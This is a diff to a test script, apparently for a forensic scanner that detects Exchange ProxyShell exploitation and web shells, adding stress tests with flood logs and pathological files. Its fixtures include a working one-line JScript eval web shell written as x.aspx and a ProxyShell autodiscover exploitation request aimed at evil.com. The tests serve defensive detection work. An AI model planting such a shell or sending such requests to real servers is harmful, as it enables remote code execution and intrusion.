@@ -133,3 +133,67 @@ import json, sys
 t = json.load(open(sys.argv[1])); r = json.load(open(sys.argv[2]))
 print("verdicts equal the truth:", "yes" if r["verdicts"] == t["verdicts"] else "NO")
 PY
+
+echo "== hostile input: 10,000,000 scanner lines, then the real exploitation"
+python3 - "$tmp/flood" 10000000 <<'PY'
+import os, sys
+d = os.path.join(sys.argv[1], "inetpub/logs/LogFiles/W3SVC1"); n = int(sys.argv[2])
+os.makedirs(d, exist_ok=True)
+os.makedirs(os.path.join(sys.argv[1], "inetpub/wwwroot/aspnet_client"), exist_ok=True)
+open(os.path.join(sys.argv[1], "inetpub/wwwroot/aspnet_client/x.aspx"), "w").write(
+    '<%@ Page Language="Jscript"%><%eval(Request.Item["q"],"unsafe");%>')
+line = "2021-08-10 00:00:%02d 10.0.0.5 GET /autodiscover/autodiscover.json @test.com/owa/?&Email=autodiscover/autodiscover.json%%3F@test.com 443 - 198.51.100.%d Mozilla/5.0 302\r\n"
+with open(os.path.join(d, "u_ex210810.log"), "w", newline="") as f:
+    f.write("#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\r\n")
+    block = "".join(line % (i % 60, i % 250) for i in range(10000))
+    for _ in range(n // 10000):
+        f.write(block)
+    f.write("2021-08-20 11:00:01 10.0.0.5 POST /autodiscover/autodiscover.json @evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com 443 - 203.0.113.66 python-requests/2.26.0 200\r\n")
+PY
+measure "$ex" hunt "$tmp/flood" --format json -o "$tmp/flood.json" --no-progress 2>"$tmp/fl.m" >/dev/null || true
+python3 - "$tmp/flood.json" "$(secs "$tmp/fl.m")" "$(rss "$tmp/fl.m")" <<'PY'
+import json, sys
+r = json.load(open(sys.argv[1]))
+found = r["verdicts"]["CVE-2021-34473"] == "back-doored" and any(b["path"].endswith("x.aspx") for b in r["backdoors"])
+print(f"exhunt hunt: {float(sys.argv[2]):.2f} s, peak {float(sys.argv[3]):.1f} MB (target: at most 256 MB); "
+      f"{r['aggregated']} findings counted, not listed; exploitation and shell found: {'yes' if found else 'NO'}")
+PY
+rm -rf "$tmp/flood"
+
+echo "== hostile input: the worst file for the web-shell checks vs a benign one of the same size"
+python3 - "$tmp/patho" <<'PY'
+import os, sys
+root = sys.argv[1]; size = 8 << 20
+def fill(unit, head="<%@ Page Language=\"C#\" %><% "):
+    body = (unit * (size // len(unit) + 1))[: size - len(head)]
+    return head + body
+cases = {
+    "benign": "<%@ Page Language=\"C#\" %><% var n = Request.Form[\"name\"]; %>" + ("<p>lorem ipsum dolor sit amet</p>\n" * (size // 34)),
+    "eval-no-close": fill("eval("),
+    "eval-request-far": fill("eval(" * 47 + "x.request["),
+    "write-calls": fill("streamwriter(" * 20 + "request["),
+    "char-codes": fill("(char)99+"),
+    "base64-literals": fill('"' + "QUJD" * 12 + '"+'),
+    "comment-openers": fill("/*x"),
+    "aspx-blocks": "<%" * (size // 2),
+    "tag-openers": "<a" * (size // 2),
+    "script-no-gt": "<script runat=server " * (size // 21),
+    "one-letter": "<%" + "a" * size,
+    "escapes": fill("\\x41%u0042&#67;"),
+    "handlers": '<configuration><handlers><add type="a" ' * (size // 40),
+}
+for name, text in cases.items():
+    d = os.path.join(root, name, "inetpub/wwwroot/app")
+    os.makedirs(d, exist_ok=True)
+    ext = ".config" if name == "handlers" else ".aspx"
+    open(os.path.join(d, "p" + ext), "w").write(text)
+PY
+worst=""; worst_ratio=0
+measure "$ex" hunt "$tmp/patho/benign" --no-progress --threads 1 >/dev/null 2>"$tmp/b.m" || true
+base=$(secs "$tmp/b.m")
+for c in "$tmp"/patho/*; do
+	n=$(basename "$c"); [ "$n" = benign ] && continue
+	measure "$ex" hunt "$c" --no-progress --threads 1 >/dev/null 2>"$tmp/p.m" || true
+	python3 -c "import sys; print(f'  {sys.argv[1]:18s} {float(sys.argv[2]):6.2f} s  ({float(sys.argv[2])/float(sys.argv[3]):.1f}x the benign file)')" "$n" "$(secs "$tmp/p.m")" "$base"
+done
+echo "  benign             $base s (target: no file above 10x)"
